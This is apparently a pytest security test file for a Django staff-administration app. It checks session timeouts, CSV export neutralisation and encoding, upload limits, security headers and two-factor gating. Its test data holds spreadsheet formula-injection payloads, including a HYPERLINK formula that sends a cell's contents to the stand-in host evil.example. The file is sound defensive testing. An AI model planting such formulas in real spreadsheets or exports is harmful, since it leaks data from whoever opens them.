"""Sessions (idle timeout, absolute lifetime, the warning, signing out a disabled login),
exports (formula cells neutralised, CP932, never cached), uploads (the size refused before
reading), and the headers every page carries."""

import csv
import io
import re
import time
from pathlib import Path

import pytest
from django.contrib.sessions.models import Session
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from juki_admin import accounts, csvio
from juki_admin.access import Role
from juki_admin.middleware import LAST_SEEN, SIGNED_IN_AT
from juki_admin.models import Staff

from ..factories import make_user

ROOT = Path(__file__).resolve().parents[2]


# --- sessions ------------------------------------------------------------------------------


def _age(client, key: str, seconds: float):
    session = client.session
    session[key] = time.time() - seconds
    session.save()


def test_a_session_unused_for_fifteen_minutes_is_signed_out(client, operator, settings):
    assert settings.SESSION_IDLE_TIMEOUT == 15 * 60
    client.force_login(operator)
    _age(client, LAST_SEEN, 14 * 60)
    assert client.get("/").status_code == 200  # still in time (and the clock restarts)
    _age(client, LAST_SEEN, 16 * 60)
    response = client.get("/")
    assert response.status_code == 302 and response["Location"].startswith("/login/")
    page = client.get(response["Location"]).content.decode()
    assert "操作がなかったため" in page  # the sign-in page says why
    assert client.get("/").status_code == 302  # signed out for good


def test_the_idle_timeout_is_configurable(client, operator, settings):
    settings.SESSION_IDLE_TIMEOUT = 60
    client.force_login(operator)
    _age(client, LAST_SEEN, 90)
    assert client.get("/").status_code == 302


def test_a_session_ends_twelve_hours_after_signing_in_however_busy(client, operator, settings):
    assert settings.SESSION_ABSOLUTE_LIFETIME == 12 * 60 * 60
    client.force_login(operator)
    _age(client, SIGNED_IN_AT, 12 * 60 * 60 + 1)
    response = client.get("/")
    assert response.status_code == 302
    assert "最長時間" in client.get(response["Location"]).content.decode()


def test_staying_signed_in_from_the_warning_counts_as_activity(client, operator):
    client.force_login(operator)
    _age(client, LAST_SEEN, 14 * 60)
    assert client.get("/session/keepalive/").status_code == 204
    assert time.time() - client.session[LAST_SEEN] < 5
    client.logout()
    assert client.get("/session/keepalive/").status_code == 401


@pytest.mark.parametrize("url", ["/", "/admin/"])
def test_every_page_carries_the_timeout_warning_for_its_script(client, sysadmin, url):
    client.force_login(sysadmin)
    body = client.get(url).content.decode()
    assert 'id="session-warning"' in body and 'data-idle-timeout="900"' in body
    assert "/static/juki.js" in body


def test_a_disabled_login_is_signed_out_everywhere(client, operator, sysadmin):
    from django.test import Client

    other_browser = Client()
    client.force_login(operator)
    other_browser.force_login(operator)
    operator.is_active = False
    accounts.user_save(
        user=operator, roles=[Role.OPERATOR], actor=sysadmin, reason="退職によりログイン停止"
    )
    assert client.get("/").status_code == 302
    assert other_browser.get("/").status_code == 302
    remaining = [
        s for s in Session.objects.all() if s.get_decoded().get("_auth_user_id") == str(operator.pk)
    ]
    assert remaining == []


# --- exports -------------------------------------------------------------------------------

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝１＋１",
]


def _cells(response, encoding="utf-8-sig"):
    return list(csv.reader(io.StringIO(response.content.decode(encoding), newline="")))


@pytest.mark.parametrize("value", MALICIOUS)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value):
    response = csvio.csv_response("x.csv", ["名前", "数"], [[value, 5], ["普通の名前", -3]])
    rows = _cells(response)
    assert rows[1][0] == "'" + value
    assert rows[2] == ["普通の名前", "-3"]  # numbers and ordinary text as they were


def test_an_export_is_utf8_with_bom_by_default_and_cp932_on_request(rf):
    rows = [["髙橋 﨑子", "塚"], ["𠮷野", "ok"]]  # 𠮷 is not in CP932
    default = csvio.csv_response("x.csv", ["氏名", "備考"], rows, request=rf.get("/x"))
    assert default.content.startswith("\ufeff".encode())
    assert _cells(default)[2][0] == "𠮷野"
    sjis = csvio.csv_response("x.csv", ["氏名", "備考"], rows, request=rf.get("/x?encoding=cp932"))
    assert sjis["Content-Type"] == "text/csv; charset=shift_jis"
    text = _cells(sjis, "cp932")
    assert text[1] == ["髙橋 﨑子", "塚"] and text[2][0] == "〓野"
    assert default["Cache-Control"] == "no-store" and sjis["Cache-Control"] == "no-store"


def test_an_unknown_encoding_answers_404(rf):
    from django.http import Http404

    with pytest.raises(Http404):
        csvio.csv_response("x.csv", ["a"], [], request=rf.get("/x?encoding=latin-1"))


# --- uploads -------------------------------------------------------------------------------


class UnreadableBody:
    """A request body that fails the test if anything reads it."""

    def read(self, *args):
        raise AssertionError("the upload was read")

    readline = read


def test_an_upload_over_the_limit_is_refused_before_its_body_is_read(client, sysadmin, caplog):
    client.force_login(sysadmin)
    response = client.generic(
        "POST",
        "/admin/juki_admin/staff/import/",
        b"",
        **{
            "CONTENT_TYPE": "multipart/form-data; boundary=BoUnDaRy",
            "CONTENT_LENGTH": str(60 * 1024 * 1024),
            "wsgi.input": UnreadableBody(),
        },
    )
    assert response.status_code == 413
    assert "10 MB" in response.content.decode()
    refused = [r for r in caplog.records if getattr(r, "event", "") == "upload_refused"]
    assert refused and refused[0].user == "sysadmin"


def test_the_import_form_refuses_a_file_over_the_limit_by_its_size(client, sysadmin, settings):
    settings.UPLOAD_MAX_BYTES = 1024
    client.force_login(sysadmin)
    big = SimpleUploadedFile("staff.csv", b"a" * 2048, content_type="text/csv")
    response = client.post("/admin/juki_admin/staff/import/", {"file": big})
    assert response.status_code == 200
    assert response.context["form"].errors["file"]


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("staff.xlsx", b"PK\x03\x04rest", "CSV ファイル"),
        ("staff.csv", b"PK\x03\x04rest", "xlsx"),
        ("staff.csv", b"\x00\x01\x02", "NUL"),
    ],
)
def test_a_file_that_is_not_csv_text_is_refused_with_a_message(
    client, sysadmin, name, data, message
):
    client.force_login(sysadmin)
    before = Staff.objects.count()
    response = client.post(
        "/admin/juki_admin/staff/import/",
        {"file": SimpleUploadedFile(name, data)},
        follow=True,
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Staff.objects.count() == before


def test_the_import_command_refuses_a_file_over_the_limit_before_reading_it(
    tmp_path, sysadmin, settings
):
    settings.UPLOAD_MAX_BYTES = 10
    path = tmp_path / "big.csv"
    path.write_bytes(b"x" * 100)
    with pytest.raises(CommandError, match="MB"):
        call_command("import_staff", str(path), "--actor", "sysadmin")


# --- headers -------------------------------------------------------------------------------


def test_every_page_carries_a_content_security_policy_and_the_usual_headers(client, operator):
    client.force_login(operator)
    response = client.get("/")
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert "camera=()" in response["Permissions-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Frame-Options"] == "DENY"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"


def test_no_template_holds_an_inline_script_handler_or_style():
    """What the policy would block (the PDFs are drawn on the server and are not checked)."""
    offending = []
    for path in (ROOT / "templates").rglob("*.html"):
        if "pdf" in path.relative_to(ROOT / "templates").parts:
            continue
        text = path.read_text()
        if re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text) or re.search(r"\s(on\w+|style)=", text):
            offending.append(str(path.relative_to(ROOT)))
    assert offending == []


def test_a_download_is_never_cached_whichever_view_makes_it(client, operator):
    from django.http import HttpResponse
    from django.test import RequestFactory

    from juki_admin.middleware import SecurityHeadersMiddleware

    def view(request):
        response = HttpResponse(b"x")
        response["Content-Disposition"] = 'attachment; filename="x.bin"'
        return response

    response = SecurityHeadersMiddleware(view)(RequestFactory().get("/x"))
    assert response["Cache-Control"] == "no-store"


def test_healthz_says_ok_and_nothing_about_the_stack(client, db):
    response = client.get("/healthz")
    assert response.json() == {"status": "ok"}
    assert "Server" not in response or "gunicorn" not in response["Server"]


def test_unverified_staff_of_a_role_that_requires_two_factor_never_reaches_a_page(
    client, two_factor_on, office
):
    chief = make_user(Role.SECURITY_CHIEF, office, username="chief", is_staff=True)
    client.force_login(chief)
    for url in ["/", "/admin/", "/cards/ledger/?format=csv", "/staff/"]:
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/account/two-factor/"), url


@pytest.mark.parametrize("column", ["name", "kana", "employee_number"])
@pytest.mark.parametrize("value", ["=1+1", "@SUM(A1)", "+81", "-X", "＝１＋１"])
def test_the_staff_import_refuses_a_name_or_number_a_spreadsheet_would_run(
    office, sysadmin, column, value
):
    from juki_admin.staff_import import staff_import

    row = {"employee_number": "E1", "name": "山田 太郎", "kana": "ヤマダ タロウ"}
    row[column] = value
    data = (
        "職員番号,氏名,ふりがな,所属コード,雇用区分,在籍状況,発効日\n"
        f"{row['employee_number']},{row['name']},{row['kana']},S02,正規,在職,\n"
    ).encode()
    before = Staff.objects.count()
    report = staff_import(data=data, actor=sysadmin)
    assert [e.column for e in report.errors] == [column]
    assert "数式" in report.errors[0].message
    assert Staff.objects.count() == before
